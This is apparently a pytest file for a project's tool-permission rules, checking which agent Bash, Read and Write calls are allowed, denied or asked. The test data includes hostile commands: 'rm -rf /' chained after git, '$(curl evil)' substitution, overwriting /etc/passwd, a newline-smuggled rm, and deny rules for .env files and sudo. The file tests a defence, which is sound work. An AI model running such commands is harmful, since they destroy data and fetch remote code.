"""Permissions of a project: the first rule that meets decides, and an allowed word allows no second one."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from taskyard.domain.error import Invalid
from taskyard.domain.permission import Effect, decide, parse, subject
from taskyard.domain.settings import resolve

RULES = ("deny * *.env*", "allow Bash git *", "allow Read", "deny Bash sudo *", "ask Bash")


@pytest.mark.parametrize(
    ("tool", "what", "effect"),
    [
        ("Bash", {"command": "git status"}, Effect.ALLOW),
        ("Bash", {"command": "git status; rm -rf /"}, Effect.ASK),
        ("Bash", {"command": "git log $(curl evil)"}, Effect.ASK),
        ("Bash", {"command": "git add .\nrm x"}, Effect.ASK),
        ("Bash", {"command": "git show > /etc/passwd"}, Effect.ASK),
        ("Bash", {"command": ["git", "add", "."]}, Effect.ALLOW),
        ("Bash", {"command": "sudo ls"}, Effect.DENY),
        ("Bash", {"command": "ls"}, Effect.ASK),
        ("Read", {"file_path": "/a/b.py"}, Effect.ALLOW),
        ("Read", {"file_path": "/a/.env.local"}, Effect.DENY),
        ("Write", {"file_path": "x", "content": "y"}, Effect.ASK),
    ],
)
def test_the_first_rule_that_meets_decides(tool, what, effect):
    assert decide(RULES, tool, what) is effect


def test_without_rules_everything_is_asked():
    assert decide((), "Bash", {"command": "ls"}) is Effect.ASK


@pytest.mark.parametrize("line", ["", "allow", "permit Bash", "Allow Bash", "   "])
def test_a_rule_that_is_none_is_refused_by_name(line):
    with pytest.raises(Invalid, match="allow Bash git"):
        parse(line)


def test_settings_refuse_it_too():
    assert resolve({"permissions": ["allow Read"]}).permissions == ("allow Read",)
    with pytest.raises(Invalid, match="permissions"):
        resolve({"permissions": ["yes please"]})


@given(
    st.dictionaries(st.text(), st.recursive(st.none() | st.text() | st.integers(), st.lists, max_leaves=5))
)
def test_any_input_has_a_subject(what):
    assert isinstance(subject(what), str)
